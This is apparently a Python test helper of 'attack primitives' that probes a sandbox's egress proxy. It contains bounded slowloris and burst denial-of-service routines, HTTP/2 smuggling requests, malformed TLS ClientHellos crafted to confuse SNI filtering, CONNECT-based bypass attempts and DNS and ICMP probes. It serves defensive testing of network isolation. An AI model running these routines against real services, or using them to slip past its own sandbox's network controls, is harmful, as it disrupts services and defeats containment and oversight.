"""Attack primitives that run INSIDE a sandbox: `python attacks.py NAME 'JSON ARGS'`.

Rules: each attack only observes and reports (one JSON line on stdout: what came back, what
failed); the tests decide what that means. Every socket has a timeout and every loop a bound in
count and time. Only the standard library and what the sandbox's Python already has (h2, dnslib).
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable
from typing import Any

TIMEOUT = 5.0
READ_LIMIT = 256 * 1024


def gateway() -> str:
    with open("/proc/net/route") as routes:
        lines = routes.read().splitlines()[1:]
    for line in lines:
        fields = line.split()
        if fields[1] == "00000000":
            return socket.inet_ntoa(bytes.fromhex(fields[2])[::-1])
    raise RuntimeError("no default route")


def resolv_nameserver() -> str:
    with open("/etc/resolv.conf") as resolv:
        lines = resolv.read().splitlines()
    for line in lines:
        if line.startswith("nameserver"):
            return line.split()[1]
    return gateway()


def text(data: bytes) -> str:
    return data.decode("latin-1")


def read_all(sock: socket.socket, limit: float = TIMEOUT) -> bytes:
    """Read until EOF, the size limit, or `limit` seconds."""
    chunks: list[bytes] = []
    deadline = time.monotonic() + limit
    size = 0
    while size < READ_LIMIT and time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            chunk = sock.recv(65536)
        except (TimeoutError, ssl.SSLError, OSError):
            break
        if not chunk:
            break
        chunks.append(chunk)
        size += len(chunk)
    return b"".join(chunks)


def failure(exc: BaseException) -> dict[str, Any]:
    return {"error": type(exc).__name__, "errno": getattr(exc, "errno", None), "message": str(exc)[:300]}


def tls_context(ca: str | None = None, alpn: list[str] | None = None) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=ca) if ca else ssl.create_default_context()
    if alpn:
        context.set_alpn_protocols(alpn)
    return context


def open_conn(
    host: str,
    port: int,
    family: str = "inet",
    tls_sni: str | None = None,
    ca: str | None = None,
    verify: bool = True,
) -> socket.socket:
    fam = socket.AF_INET6 if family == "inet6" else socket.AF_INET
    sock = socket.socket(fam, socket.SOCK_STREAM)
    sock.settimeout(TIMEOUT)
    sock.connect((host, port))
    if tls_sni is None:
        return sock
    context = tls_context(ca)
    if not verify:
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(sock, server_hostname=tls_sni or None)


# ------------------------------------------------------------------------------ attacks


def raw(
    host: str,
    port: int,
    payload: str = "",
    family: str = "inet",
    sni: str | None = None,
    ca: str | None = None,
    verify: bool = True,
    pad_headers: tuple[int, int] = (0, 0),
) -> dict[str, Any]:
    """Connect (TCP, optionally TLS with this SNI), send `payload`, read the reply. `pad_headers`
    (size, count) adds that many headers of that size before the payload's final CRLF (built
    here: a command line cannot carry 200 kB)."""
    host = gateway() if host == "GATEWAY" else host
    size, count = pad_headers
    if count:
        padding = "".join(f"X-Pad-{n}: {'a' * size}\r\n" for n in range(count))
        payload = payload[:-2] + padding + "\r\n"
    try:
        sock = open_conn(host, port, family, sni, ca, verify)
    except (OSError, ssl.SSLError) as exc:
        return {"connected": False, **failure(exc)}
    with sock:
        try:
            if payload:
                sock.sendall(payload.encode("latin-1"))
            reply = read_all(sock)
        except (OSError, ssl.SSLError) as exc:
            return {"connected": True, "reply": "", **failure(exc)}
    return {"connected": True, "reply": text(reply)}


def via_proxy(target: str, then_sni: str | None = None, payload: str = "", port: int = 0) -> dict[str, Any]:
    """CONNECT `target` through the explicit proxy port on the gateway; then optionally TLS + payload."""
    try:
        sock = socket.create_connection((gateway(), port), TIMEOUT)
    except OSError as exc:
        return {"connected": False, **failure(exc)}
    with sock:
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head and len(head) < 65536:
            try:
                chunk = sock.recv(4096)
            except OSError as exc:
                return {"connected": True, "connect_reply": text(head), **failure(exc)}
            if not chunk:
                break
            head += chunk
        result: dict[str, Any] = {"connected": True, "connect_reply": text(head)}
        if not head.startswith(b"HTTP/1.1 200") or then_sni is None:
            result["rest"] = text(read_all(sock, 1.0)) if not head.startswith(b"HTTP/1.1 200") else ""
            return result
        try:
            tls = tls_context().wrap_socket(sock, server_hostname=then_sni)
            if payload:
                tls.sendall(payload.encode("latin-1"))
            result["reply"] = text(read_all(tls))
        except (OSError, ssl.SSLError) as exc:
            result.update(failure(exc))
        return result


def h2_streams(
    host: str,
    authorities: list[str],
    path: str = "/echo",
    paths: list[str] | None = None,
    content_length: int | None = None,
    body: str = "",
    pause: float = 0.0,
) -> dict[str, Any]:
    """One HTTP/2 connection (SNI `host`); one GET per :authority on it (or, with `paths`, one per
    :path on the first :authority); status and body per stream. With `body`, each is a POST of
    it in one DATA frame, declaring `content-length` (which need not agree: h2 does not check
    what it sends); `pause` seconds pass between the heads and the DATA (read apart, the proxy
    has a whole head before any DATA)."""
    import h2.config
    import h2.connection
    import h2.events

    try:
        sock = tls_context(alpn=["h2"]).wrap_socket(
            socket.create_connection((host, 443), TIMEOUT), server_hostname=host
        )
    except (OSError, ssl.SSLError) as exc:
        return {"connected": False, **failure(exc)}
    if sock.selected_alpn_protocol() != "h2":
        return {"connected": True, "alpn": sock.selected_alpn_protocol()}
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    streams: dict[int, dict[str, Any]] = {}
    wanted = [(authorities[0], p) for p in paths] if paths else [(a, path) for a in authorities]
    for index, (authority, stream_path) in enumerate(wanted):
        stream_id = 1 + 2 * index
        headers = [
            (":method", "POST" if body else "GET"),
            (":path", stream_path),
            (":scheme", "https"),
            (":authority", authority),
        ]
        if content_length is not None:
            headers.append(("content-length", str(content_length)))
        conn.send_headers(stream_id, headers, end_stream=not body)
        streams[stream_id] = {
            "authority": authority,
            "path": stream_path,
            "status": None,
            "body": "",
            "reset": None,
        }
    if body:
        sock.sendall(conn.data_to_send())
        time.sleep(pause)
        for stream_id in streams:
            conn.send_data(stream_id, body.encode(), end_stream=True)
    sock.sendall(conn.data_to_send())
    deadline = time.monotonic() + TIMEOUT
    open_streams = set(streams)
    while open_streams and time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except (OSError, ssl.SSLError):
            break
        if not data:
            break
        for event in conn.receive_data(data):
            sid = getattr(event, "stream_id", None)
            if isinstance(event, h2.events.ResponseReceived):
                streams[sid]["status"] = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.DataReceived):
                streams[sid]["body"] += text(event.data)
                conn.acknowledge_received_data(event.flow_controlled_length, sid)
            elif isinstance(event, h2.events.StreamEnded):
                open_streams.discard(sid)
            elif isinstance(event, h2.events.StreamReset):
                streams[sid]["reset"] = int(event.error_code)
                open_streams.discard(sid)
            elif isinstance(event, h2.events.ConnectionTerminated):
                open_streams.clear()
        pending = conn.data_to_send()
        if pending:
            sock.sendall(pending)
    sock.close()
    return {"connected": True, "alpn": "h2", "streams": list(streams.values())}


DNS_TYPES = {
    "A": 1,
    "NS": 2,
    "CNAME": 5,
    "NULL": 10,
    "MX": 15,
    "TXT": 16,
    "AAAA": 28,
    "SRV": 33,
    "HTTPS": 65,
    "ANY": 255,
}


def dns_query(
    name: str, qtype: str = "A", server: str = "", port: int = 53, tcp: bool = False
) -> dict[str, Any]:
    """One DNS question, hand-built (UDP or TCP); the reply's rcode and answer count."""
    server = server or resolv_nameserver()
    qid = int.from_bytes(os.urandom(2), "big")
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.rstrip(".").split(".")) + b"\0"
    packet = (
        struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + question + struct.pack(">HH", DNS_TYPES[qtype], 1)
    )
    try:
        if tcp:
            with socket.create_connection((server, port), TIMEOUT) as sock:
                sock.sendall(struct.pack(">H", len(packet)) + packet)
                reply = read_all(sock, 3.0)[2:]
        else:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.settimeout(3.0)
                sock.sendto(packet, (server, port))
                reply, _ = sock.recvfrom(65535)
    except OSError as exc:
        return {"answered": False, **failure(exc)}
    if len(reply) < 12:
        return {"answered": False, "error": "short reply", "length": len(reply)}
    _qid, flags, _qd, ancount, _ns, _ar = struct.unpack(">HHHHHH", reply[:12])
    return {"answered": True, "rcode": flags & 0xF, "answers": ancount, "reply": reply.hex()}


def dns_many(queries: list[list[str]]) -> dict[str, Any]:
    """Several questions [[name, type], ...] through the sandbox's resolver."""
    return {"results": [dict(dns_query(name, qtype), name=name, type=qtype) for name, qtype in queries]}


def resolve(name: str) -> dict[str, Any]:
    """What the sandbox's libc resolver gives for `name` (all families)."""
    try:
        infos = socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
    except socket.gaierror as exc:
        return {"addresses": [], **failure(exc)}
    return {"addresses": sorted({info[4][0] for info in infos})}


def udp(host: str, port: int, payload_hex: str = "c000000001", family: str = "inet") -> dict[str, Any]:
    """Send one datagram (default: the first bytes of a QUIC Initial) and wait briefly for any reply."""
    host = gateway() if host == "GATEWAY" else host
    fam = socket.AF_INET6 if family == "inet6" else socket.AF_INET
    try:
        with socket.socket(fam, socket.SOCK_DGRAM) as sock:
            sock.settimeout(1.5)
            sock.sendto(bytes.fromhex(payload_hex) + b"\0" * 1195, (host, port))
            data, peer = sock.recvfrom(4096)
            return {"sent": True, "reply": data.hex(), "peer": peer[0]}
    except OSError as exc:
        return {"sent": "timed out" in str(exc) or isinstance(exc, TimeoutError), **failure(exc)}


def icmp(host: str) -> dict[str, Any]:
    """An ICMP echo through an unprivileged ping socket (and a raw socket, if it were allowed)."""
    out: dict[str, Any] = {}
    for kind, sock_type in (("dgram", socket.SOCK_DGRAM), ("raw", socket.SOCK_RAW)):
        try:
            with socket.socket(socket.AF_INET, sock_type, socket.IPPROTO_ICMP) as sock:
                sock.settimeout(1.5)
                sock.sendto(bytes.fromhex("0800f7ff00000000"), (host, 0))
                _data, peer = sock.recvfrom(200)
                out[kind] = {"reply": True, "peer": peer[0]}
        except OSError as exc:
            out[kind] = {"reply": False, **failure(exc)}
    return out


def slowloris(host: str, port: int, connections: int, seconds: float, probe_url_host: str) -> dict[str, Any]:
    """Hold `connections` sockets sending one header byte at a time for `seconds` (bounded), while
    a normal request is timed; report how many the proxy had closed by the end."""
    sockets: list[socket.socket] = []
    for _ in range(min(connections, 200)):
        try:
            sock = socket.create_connection((host, port), TIMEOUT)
            sock.sendall(f"GET /echo HTTP/1.1\r\nHost: {probe_url_host}\r\n".encode())
            sockets.append(sock)
        except OSError:
            break
    probe: dict[str, Any] = {}

    def normal_request() -> None:
        started = time.monotonic()
        probe.update(
            raw(probe_url_host, 80, f"GET / HTTP/1.1\r\nHost: {probe_url_host}\r\nConnection: close\r\n\r\n")
        )
        probe["seconds"] = round(time.monotonic() - started, 3)

    worker = threading.Thread(target=normal_request)
    worker.start()
    deadline = time.monotonic() + min(seconds, 30)
    closed = 0
    while time.monotonic() < deadline and sockets:
        for sock in list(sockets):
            try:
                sock.sendall(b"X")
            except OSError:
                sockets.remove(sock)
                closed += 1
        readable, _, _ = select.select(sockets, [], [], 0.5)
        for sock in readable:
            try:
                if not sock.recv(4096):
                    raise OSError("closed")
            except OSError:
                sockets.remove(sock)
                closed += 1
    worker.join(TIMEOUT * 2)
    for sock in sockets:
        sock.close()
    return {"opened": connections, "closed_by_proxy": closed, "probe": probe}


def connect_loop(
    host: str, port: int, seconds: float, gap: float, sni: str, path: str, until_answered: bool = False
) -> dict[str, Any]:
    """Repeated HTTPS GETs (bounded in time and count): what each attempt got (status or error).
    `until_answered`: past `seconds`, go on while the last attempt got no answer (at most 50 s in
    all), so a proxy that takes long to come back on a loaded machine is still seen coming back."""
    attempts: list[dict[str, Any]] = []
    start = time.monotonic()
    deadline, limit = start + min(seconds, 40), start + 50

    def going_on() -> bool:
        now = time.monotonic()
        waiting = until_answered and bool(attempts) and not attempts[-1]["status"]
        return len(attempts) < 1000 and (now < deadline or (waiting and now < limit))

    while going_on():
        started, wall = time.monotonic(), time.time()  # wall clock: the test compares it with its own
        result = raw(host, port, f"GET {path} HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n", sni=sni)
        status = result.get("reply", "")[:12]
        attempts.append(
            {
                "t": round(wall, 3),
                "done": round(time.time(), 3),
                "connected": result["connected"],
                "status": status,
                "error": result.get("error"),
            }
        )
        time.sleep(max(0.0, gap - (time.monotonic() - started)))
    return {"attempts": attempts}


# ------------------------------------------------------------------------------ ClientHellos
# A real ClientHello comes from OpenSSL (the `ssl` module over memory BIOs); only the variants a
# conforming server must reject, and the ECH extension OpenSSL cannot make, are edits of its
# extension list, each named in HELLO_EDITS and described there.

ECH_OUTER = 0xFE0D  # encrypted_client_hello


def openssl_hello(sni: str) -> bytes:
    """The ClientHello record OpenSSL sends for `sni` (TLS 1.2-1.3, the default context)."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=sni)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def hello_extensions(record: bytes) -> tuple[bytes, list[tuple[int, bytes]]]:
    """(the hello's body up to its extensions, [(type, body), ...]) of one ClientHello record."""
    body = record[9:]  # record header (5), handshake header (4)
    offset = 2 + 32  # version, random
    offset += 1 + body[offset]  # session id
    offset += 2 + struct.unpack_from(">H", body, offset)[0]  # cipher suites
    offset += 1 + body[offset]  # compression methods
    end = offset + 2 + struct.unpack_from(">H", body, offset)[0]
    extensions, cursor = [], offset + 2
    while cursor < end:
        kind, length = struct.unpack_from(">HH", body, cursor)
        extensions.append((kind, body[cursor + 4 : cursor + 4 + length]))
        cursor += 4 + length
    return body[:offset], extensions


def hello_record(head: bytes, extensions: list[tuple[int, bytes]]) -> bytes:
    block = b"".join(struct.pack(">HH", kind, len(data)) + data for kind, data in extensions)
    body = head + struct.pack(">H", len(block)) + block
    handshake = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack(">H", len(handshake)) + handshake


def server_name(*names: bytes, name_type: int = 0, list_length: int | None = None) -> bytes:
    entries = b"".join(bytes([name_type]) + struct.pack(">H", len(name)) + name for name in names)
    return struct.pack(">H", len(entries) if list_length is None else list_length) + entries


def grease_ech() -> bytes:
    """An outer encrypted_client_hello as a client without an ECH config sends it (GREASE, ECH
    draft 6.2): outer type, HKDF-SHA256 / AES-128-GCM, a config id, an X25519 key share, payload."""
    return (
        b"\x00\x00\x01\x00\x01"
        + os.urandom(1)
        + struct.pack(">H", 32)
        + os.urandom(32)
        + (struct.pack(">H", 144) + os.urandom(144))
    )


def _replace_sni(extensions: list[tuple[int, bytes]], *bodies: bytes) -> list[tuple[int, bytes]]:
    at = next(i for i, (kind, _) in enumerate(extensions) if kind == 0)
    return [*extensions[:at], *((0, body) for body in bodies), *extensions[at + 1 :]]


HELLO_EDITS: dict[str, Callable[[list[tuple[int, bytes]], bytes, bytes], list[tuple[int, bytes]]]] = {
    # as OpenSSL wrote it: the control
    "none": lambda exts, sni, other: exts,
    # a second server_name extension naming another host, right after the first
    "two_server_name": lambda exts, sni, other: _replace_sni(exts, server_name(sni), server_name(other)),
    # one server_name list holding two host names
    "two_names": lambda exts, sni, other: _replace_sni(exts, server_name(sni, other)),
    # a list length that does not match the extension (mitmproxy still reads the name)
    "bad_list_length": lambda exts, sni, other: _replace_sni(exts, server_name(sni, list_length=3)),
    # a name of a type that is not host_name
    "other_name_type": lambda exts, sni, other: _replace_sni(exts, server_name(sni, name_type=1)),
    # two bytes after the server_name list inside its extension: mitmproxy's parser gives up
    "trailing_bytes": lambda exts, sni, other: _replace_sni(exts, server_name(sni) + b"\0\0"),
    # supported_groups (10) twice
    "repeated_extension": lambda exts, sni, other: [*exts, next(e for e in exts if e[0] == 10)],
    # encrypted_client_hello appended, as Chromium sends it (GREASE) when it knows no ECH config
    "ech": lambda exts, sni, other: [*exts, (ECH_OUTER, grease_ech())],
}


def clienthello(
    host: str, port: int, sni: str, edit: str, other: str = "", connect_port: int = 0
) -> dict[str, Any]:
    """Send OpenSSL's ClientHello for `sni`, edited by HELLO_EDITS[edit], straight to host:port
    (the transparent path) or through a CONNECT on the explicit proxy port; report what came back:
    "server_hello", "alert", or "closed" (nothing: the proxy closed it)."""
    head, extensions = hello_extensions(openssl_hello(sni))
    record = hello_record(head, HELLO_EDITS[edit](extensions, sni.encode(), other.encode()))
    try:
        if connect_port:
            sock = socket.create_connection((gateway(), connect_port), TIMEOUT)
            sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
            connect_reply = sock.recv(4096)
            if not connect_reply.startswith(b"HTTP/1.1 200"):
                sock.close()
                return {"connected": True, "connect_reply": text(connect_reply), "reply": "refused"}
        else:
            sock = socket.create_connection((host, port), TIMEOUT)
    except OSError as exc:
        return {"connected": False, **failure(exc)}
    with sock:
        try:
            sock.sendall(record)
            reply = read_all(sock, 3.0)
        except OSError as exc:
            return {"connected": True, "reply": "closed", **failure(exc)}
    kind = "closed"
    if reply[:1] == b"\x16" and reply[5:6] == b"\x02":
        kind = "server_hello"
    elif reply[:1] == b"\x15":
        kind = "alert"
    return {"connected": True, "reply": kind, "bytes": len(reply)}


def burst(
    address: str, sni: str, paths: list[str], clients: int, stop_file: str, seconds: float = 45
) -> dict[str, Any]:
    """`clients` threads, each sending HTTPS GETs for `paths` in turn (to `address`, with SNI and
    Host `sni`), until `stop_file` exists or `seconds` pass (at most 1000 requests a client):
    how many of each path got which status line (or error)."""
    tally: dict[str, int] = {}
    lock = threading.Lock()
    deadline = time.monotonic() + min(seconds, 60)

    def client() -> None:
        for n in range(1000):
            if os.path.exists(stop_file) or time.monotonic() > deadline:
                return
            path = paths[n % len(paths)]
            request = f"GET {path} HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n"
            result = raw(address, 443, request, sni=sni)
            outcome = result.get("reply", "")[:12] or result.get("error", "no reply")[:40]
            if not result.get("reply"):
                time.sleep(0.05)  # a proxy that is down refuses at once: do not spend the budget
            with lock:
                key = f"{path.partition('?')[0]} {outcome}"
                tally[key] = tally.get(key, 0) + 1

    threads = [threading.Thread(target=client) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(1.0, deadline - time.monotonic() + 10))
    return {"tally": tally}


def dns_loop(name: str, gap: float, stop_file: str, seconds: float = 40) -> dict[str, Any]:
    """A query for `name` every `gap` seconds until `stop_file` exists or `seconds` pass (at most
    2000): when each was sent (wall clock), and whether and how it was answered."""
    queries: list[dict[str, Any]] = []
    deadline = time.monotonic() + min(seconds, 60)
    while len(queries) < 2000 and time.monotonic() < deadline and not os.path.exists(stop_file):
        sent = time.time()
        answer = dns_query(name)
        queries.append({"t": round(sent, 3), "answered": answer["answered"], "rcode": answer.get("rcode")})
        time.sleep(gap)
    return {"queries": queries}


def batch(calls: list[list[Any]]) -> dict[str, Any]:
    """Several attacks in one process ([[name, {args}], ...]), in order: one result each."""
    return {"results": [ATTACKS[name](**arguments) for name, arguments in calls]}


ATTACKS: dict[str, Callable[..., dict[str, Any]]] = {
    "batch": batch,
    "raw": raw,
    "via_proxy": via_proxy,
    "h2_streams": h2_streams,
    "dns": dns_query,
    "dns_many": dns_many,
    "resolve": resolve,
    "udp": udp,
    "icmp": icmp,
    "slowloris": slowloris,
    "connect_loop": connect_loop,
    "clienthello": clienthello,
    "burst": burst,
    "dns_loop": dns_loop,
}

if __name__ == "__main__":
    outcome = ATTACKS[sys.argv[1]](**json.loads(sys.argv[2] if len(sys.argv) > 2 else "{}"))
    print(json.dumps(outcome))
